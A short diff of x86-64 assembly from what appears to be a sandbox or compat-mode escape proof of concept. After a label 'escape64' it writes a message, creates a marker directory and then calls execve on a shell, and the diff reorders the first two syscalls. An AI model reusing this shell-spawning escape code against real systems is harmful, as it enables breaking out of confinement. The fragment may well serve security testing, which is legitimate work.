@@ -130,14 +130,14 @@ spin:	sys RESULT, $0x5
 	.code64
 escape64:
 	movl %esp, %esp
-	movl $83, %eax                       /* mkdir */
-	movl $marker, %edi
-	movl $0755, %esi
-	syscall
 	movl $1, %eax                        /* write */
 	movl $1, %edi
 	movl $msg, %esi
 	movl $msglen, %edx
+	syscall
+	movl $83, %eax                       /* mkdir */
+	movl $marker, %edi
+	movl $0755, %esi
 	syscall
 	movl $59, %eax                       /* execve */
 	movl $sh, %edi
